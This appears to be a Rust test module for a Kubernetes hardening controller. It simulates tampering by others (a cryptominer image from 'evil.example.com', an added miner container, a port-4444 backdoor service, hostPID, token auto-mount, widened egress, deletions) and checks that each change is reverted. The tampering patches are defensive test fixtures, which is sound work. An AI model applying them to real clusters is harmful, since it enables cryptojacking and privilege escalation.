//! What others do to children, one thing at a time.

use anyhow::{Context, Result};
use serde_json::{Value, json};

/// A change by somebody else.
pub(crate) struct Drift {
    /// Kind of child.
    pub(crate) kind: &'static str,
    change: Change,
}

enum Change {
    /// A declared field gets another value, or an undeclared one a value: at this JSON pointer.
    Set(&'static str, fn() -> Value),
    /// A list gets another member.
    Push(&'static str, fn() -> Value),
    Delete,
}

const fn set(kind: &'static str, pointer: &'static str, value: fn() -> Value) -> Drift {
    Drift { kind, change: Change::Set(pointer, value) }
}

const fn push(kind: &'static str, pointer: &'static str, value: fn() -> Value) -> Drift {
    Drift { kind, change: Change::Push(pointer, value) }
}

const fn delete(kind: &'static str) -> Drift {
    Drift { kind, change: Change::Delete }
}

/// Changes, additions and deletions of all kinds.
pub(crate) const DRIFTS: [Drift; 14] = [
    set("ServiceAccount", "/automountServiceAccountToken", || json!(true)),
    set("NetworkPolicy", "/spec/podSelector/matchLabels/hardened.dev~1workload", || json!("nobody")),
    set("Deployment", "/spec/template/spec/containers/0/image", || json!("evil.example.com/miner:1")),
    set("Service", "/spec/sessionAffinity", || json!("ClientIP")),
    set("PodDisruptionBudget", "/spec/maxUnavailable", || json!(0)),
    push("NetworkPolicy", "/spec/egress", || json!({})),
    push(
        "Deployment",
        "/spec/template/spec/containers",
        || json!({ "name": "miner", "image": "evil.example.com/miner:1" }),
    ),
    push("Service", "/spec/ports", || json!({ "name": "back", "port": 4444, "targetPort": 4444 })),
    set("Deployment", "/spec/template/spec/hostPID", || json!(true)),
    delete("ServiceAccount"),
    delete("NetworkPolicy"),
    delete("Deployment"),
    delete("Service"),
    delete("PodDisruptionBudget"),
];

/// What to ask the API server for, and how to see that it was undone.
pub(crate) struct Attack {
    /// A JSON patch; None deletes the object.
    pub(crate) patch: Option<Value>,
    pointer: String,
    before: Value,
}

impl Drift {
    /// The attack on an object.
    pub(crate) fn on(&self, object: &Value) -> Result<Attack> {
        let before = |pointer: &str| object.pointer(pointer).cloned().unwrap_or_default();
        let patched = |pointer: String, value| {
            let patch = json!([{ "op": "add", "path": pointer, "value": value }]);
            Attack { patch: Some(patch), before: before(&pointer), pointer }
        };
        Ok(match self.change {
            Change::Set(pointer, value) => patched(pointer.to_owned(), value()),
            Change::Push(list, value) => {
                let members = object.pointer(list).and_then(Value::as_array).context("no list there")?;
                patched(format!("{list}/{}", members.len()), value())
            }
            Change::Delete => Attack { patch: None, pointer: "/spec".to_owned(), before: Value::Null },
        })
    }
}

impl Attack {
    /// Whether the object, as it was seen after the attack, is as it was before.
    pub(crate) fn is_undone(&self, object: &Value) -> bool {
        self.patch.is_none() || object.pointer(&self.pointer).cloned().unwrap_or_default() == self.before
    }
}
